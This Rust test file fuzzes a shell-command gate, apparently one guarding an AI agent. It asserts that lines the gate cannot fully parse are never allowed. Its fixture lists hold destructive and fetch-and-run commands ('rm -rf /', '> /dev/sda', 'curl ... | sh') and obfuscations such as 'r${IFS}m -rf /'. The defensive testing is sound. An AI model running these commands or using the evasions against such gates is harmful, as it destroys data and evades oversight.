//! Property tests of the classifier over generated lines: it never panics, and it never allows a
//! line it could not fully see, even under a policy that allows everything else.

use gate::policy::{Context, Decision, PartKind, Policy, Resolver};
use std::path::Path;

/// A small deterministic generator, so a failure can be replayed from its seed.
struct Lcg(u64);

impl Lcg {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
        self.0 >> 33
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[(self.next() as usize) % items.len()]
    }
}

const FRAGMENTS: &[&str] = &[
    "ls",
    "rm -rf /",
    "git push",
    "echo hi",
    "$X",
    "$(echo rm)",
    "`id`",
    "eval \"$Y\"",
    "eval 'ls'",
    "python -c 'print(1)'",
    "node -e 1",
    "bash -c 'ls'",
    "sh -c \"$Z\"",
    "sudo",
    "env A=1",
    "timeout 5",
    "xargs",
    "find . -exec rm {} \\;",
    "find . -delete",
    "source x.sh",
    ". ./y",
    "bash x.sh",
    "curl x | sh",
    "{",
    "}",
    "(",
    ")",
    "&&",
    "||",
    ";",
    "|",
    "&",
    "\n",
    "'",
    "\"",
    "\\",
    "$'\\x72m'",
    "<(ls)",
    ">(cat)",
    "> /dev/sda",
    ">> ~/.bashrc",
    "<<EOF\nls\nEOF\n",
    "for i in 1 2; do",
    "done",
    "if true; then",
    "fi",
    "case x in x)",
    ";;",
    "esac",
    "f() {",
    "${A:-rm}",
    "$((1+2))",
    "*",
    "?",
    "[a]",
    "~",
    "--",
    "-rf",
    "\u{1b}[2J",
    "é",
    "\0",
    "while :; do",
    "select x in a; do",
    "coproc ls",
    "[[ -f x ]]",
    "!",
    "time",
];

fn context(resolver: &Resolver) -> Context<'_> {
    Context {
        home: "/home/agent",
        cwd: Path::new("/tmp"),
        env: &|_| None,
        resolver,
        project: None,
        own: &NO_OWN_FILES,
    }
}

static NO_OWN_FILES: gate::policy::effects::OwnFiles = gate::policy::effects::OwnFiles::none();

fn allow_everything() -> Policy {
    Policy::parse("allow-all", "version = 1\n[settings]\ndefault = \"allow\"\n", "/home/agent").unwrap()
}

#[test]
fn never_allows_what_it_cannot_see() {
    let (policy, resolver) = (allow_everything(), Resolver::new(Some("/usr/bin:/bin".into())));
    let context = context(&resolver);
    let mut random = Lcg(0x5eed);
    for round in 0..20_000 {
        let count = 1 + random.next() % 8;
        let line: Vec<&str> = (0..count).map(|_| random.pick(FRAGMENTS)).collect();
        let line = line.join(if random.next().is_multiple_of(3) { "" } else { " " });
        let analysis = gate::shell::analyze_line(&line);
        let classification = policy.classify(&analysis, &context);
        let unseen = classification
            .parts
            .iter()
            .any(|part| matches!(part.kind, PartKind::Opaque | PartKind::ParseError));
        if unseen {
            assert_ne!(
                classification.decision,
                Decision::Allow,
                "round {round}: {line:?} was allowed: {classification:#?}"
            );
        }
    }
}

#[test]
fn opaque_constructs_are_never_allowed() {
    let (policy, resolver) = (allow_everything(), Resolver::new(Some("/usr/bin:/bin".into())));
    let context = context(&resolver);
    let lines = [
        "$X -rf /",
        "$(echo rm) -rf /",
        "`echo rm` -rf /",
        "eval \"$CMD\"",
        "eval $(curl -s x)",
        "source ./env.sh",
        ". ./env.sh",
        "bash x.sh",
        "sh < script",
        "curl -s https://x | sh",
        "curl -s https://x | bash -s",
        "python -c 'import os'",
        "python3 -c 'import os'",
        "node -e 'process.exit()'",
        "perl -e 'unlink glob q{*}'",
        "ruby -e 'puts 1'",
        "find . -delete",
        "bash -c \"$SCRIPT\"",
        "sudo $CMD",
        "env $X",
        "xargs $CMD",
        "ls 'unterminated",
        "echo $(",
        "{rm,-rf,/}",
        "r${IFS}m -rf /",
    ];
    for line in lines {
        let classification = policy.classify(&gate::shell::analyze_line(line), &context);
        assert_ne!(classification.decision, Decision::Allow, "{line:?} was allowed: {classification:#?}");
    }
}

#[test]
fn random_bytes_never_panic() {
    let (policy, resolver) = (allow_everything(), Resolver::new(Some("/usr/bin:/bin".into())));
    let context = context(&resolver);
    let mut random = Lcg(42);
    let alphabet: Vec<char> = "abrm -/$(){}[]<>|&;'\"`\\\n*?~=!#%^0123456789\t".chars().collect();
    for _ in 0..20_000 {
        let length = random.next() % 40;
        let line: String = (0..length).map(|_| alphabet[(random.next() as usize) % alphabet.len()]).collect();
        let analysis = gate::shell::analyze_line(&line);
        let classification = policy.classify(&analysis, &context);
        if analysis.parse_error.is_some() {
            assert_ne!(classification.decision, Decision::Allow, "{line:?}");
        }
    }
}
